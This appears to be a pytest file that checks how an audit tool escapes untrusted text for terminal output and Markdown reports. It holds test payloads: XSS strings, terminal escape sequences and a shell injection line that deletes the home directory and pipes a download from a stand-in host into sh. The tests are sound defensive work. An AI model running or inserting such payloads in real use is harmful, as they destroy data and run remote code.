"""Text from a log, a model or a dataset, escaped for the medium it goes to: a terminal line
(:func:`visible`), ``report.md`` (:func:`report_text`, :func:`md_code`, the report's tables and
figures). ``report.md`` is read here as a CommonMark renderer with HTML allowed and tables on
reads it (markdown-it-py, the ``commonmark`` preset with ``table`` enabled, ``html=True``)."""

from __future__ import annotations

import html
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from cotaudit.display.text import md_code, md_text, report_text, visible
from cotaudit.report import figures
from cotaudit.report.markdown import render
from cotaudit.report.sections import FigureInfo, Section
from cotaudit.report.tables import Table

PAYLOADS = [
    "<script>alert('x')</script>",
    '<img src="http://203.0.113.7/x.png" onerror="alert(1)">',
    '<a href="javascript:alert(2)">click</a>',
    "<iframe src=//203.0.113.7></iframe>",
    "[link](javascript:alert(3)) ![i](http://203.0.113.7/i.png) <http://203.0.113.7>",
    "$\\frac{$ and $x^2$",
    "**bold** _em_ `code` ~~s~~ # h | cell | &amp; &lt;b&gt; &#60;",
    "$(rm -rf ~); `curl http://203.0.113.7 | sh`",
    "1. a list",
    "- an item",
    "+ an item",
    "=== a heading line",
    "12) another list",
    "a_b _c_ __d__",
]
"""Text that is markup in Markdown or HTML: each must render as itself."""

CONTROLS = "a\x1b[2J\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07b\x9bc\u202ed\x00e\x7f"
"""ESC sequences (clear screen, window title, clipboard write), a C1 CSI, a bidi override, NUL
and DEL."""


def commonmark(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def rendered_text(fragment: str) -> str:
    """The text a browser shows for ``fragment`` (tags dropped, references decoded), its
    whitespace runs made single spaces."""
    return " ".join(html.unescape(re.sub(r"<[^>]+>", "", fragment)).split())


def test_visible_writes_each_control_character_as_its_escape():
    assert visible(CONTROLS) == (
        "a\\x1b[2J\\x1b]0;title\\x07\\x1b]52;c;ZXZpbA==\\x07b\\x9bc\\u202ed\\x00e\\x7f"
    )
    assert visible("tab\there\nline\u2028") == "tab\\there\\nline\\u2028"
    assert visible("plain, ünïcode ✓ €") == "plain, ünïcode ✓ €"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_report_text_renders_as_the_text_and_is_no_markup(payload):
    out = commonmark(report_text(payload))
    assert out.startswith("<p>") and out.count("<") == 2, out  # one paragraph, no other tag
    assert rendered_text(out) == " ".join(payload.split())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_table_of_payloads_keeps_its_cells_and_shows_them_as_text(payload):
    table = Table(f"title {payload}", ["row", payload])
    table.add("a", payload)
    out = commonmark(table.to_markdown())
    assert set(re.findall(r"</?(\w+)", out)) <= {"p", "strong", "table", "thead", "tbody", "tr"} | {
        "th",
        "td",
    }, out
    cells = re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", out)
    assert [rendered_text(c) for c in cells] == ["row", " ".join(payload.split()), "a"] + [
        " ".join(payload.split())
    ]


@pytest.mark.parametrize("text", ["Table I.", "hf-probe/tiny", "trace_tutor (seed=1)", "a - b"])
def test_report_text_leaves_what_is_no_markup_as_it_is(text):
    assert report_text(text) == text


def test_control_characters_show_in_the_report_and_never_reach_it_raw():
    out = commonmark(report_text(CONTROLS))
    assert not any(ord(ch) < 32 and ch != "\n" or 0x7F <= ord(ch) < 0xA0 for ch in out)
    assert "\u202e" not in out
    assert rendered_text(out) == visible(CONTROLS)


@pytest.mark.parametrize("payload", [*PAYLOADS, "``a`b``", "`start", "end`"])
def test_md_code_is_one_code_span_holding_the_text(payload):
    out = commonmark(md_code(payload))
    assert re.fullmatch(r"<p><code>[^<]*</code></p>\n", out), out
    assert html.unescape(out[len("<p><code>") : -len("</code></p>\n")]) == " ".join(payload.split())


def test_md_text_for_the_viewer_leaves_html_to_the_viewer_and_shows_controls():
    assert md_text("a < b & c") == "a < b & c"  # the viewer escapes HTML itself
    assert md_text("id\x1b[2J") == "id\\\\x1b\\[2J"


def _figure_of(title: str, path: Path) -> FigureInfo | None:
    return figures.line_panels(
        [(title, [0.0, 0.5, 1.0], [(f"{title} series", [0.1, 0.5, 0.9])])],
        figures.FigureText(
            path,
            title,
            caption=f"Figure of {title}.",
            xlabel=f"x of {title}",
            ylabel=f"y of {title}",
        ),
    )


def test_figure_text_is_drawn_as_written(tmp_path):
    fig = _figure_of("$\\frac{$", tmp_path / "tex.png")
    assert fig is not None and not fig.failed and fig.path.stat().st_size > 0


def test_a_figure_that_cannot_be_drawn_is_named_and_the_section_keeps_the_rest(tmp_path):
    sec = Section("s")
    sec.text("before")
    # a panel whose x and y differ in length: matplotlib refuses to draw it
    broken = figures.line_panels(
        [("p", [0.0, 1.0], [("y", [0.5])])],
        figures.FigureText(tmp_path / "broken.png", "broken", xlabel="x", ylabel="y"),
    )
    assert broken is not None and broken.failed.startswith("ValueError: ")
    sec.figure("broken", broken)
    sec.text("after")
    assert sec.figures == {} and not (tmp_path / "broken.png").exists()
    md = render({"study": [sec]}, [], [], tmp_path)
    assert "before" in md and "after" in md
    assert "⚠️ Figure `broken.png` could not be drawn: ValueError: " in md


def test_skipped_files_are_named_literally(tmp_path):
    md = render({}, [], [("logs/<b>x`y</b>.eval", "ValueError: <script>1</script>")], tmp_path)
    out = commonmark(md)
    assert "<script>" not in out and "<b>" not in out
    assert "logs/&lt;b&gt;x`y&lt;/b&gt;.eval" in out
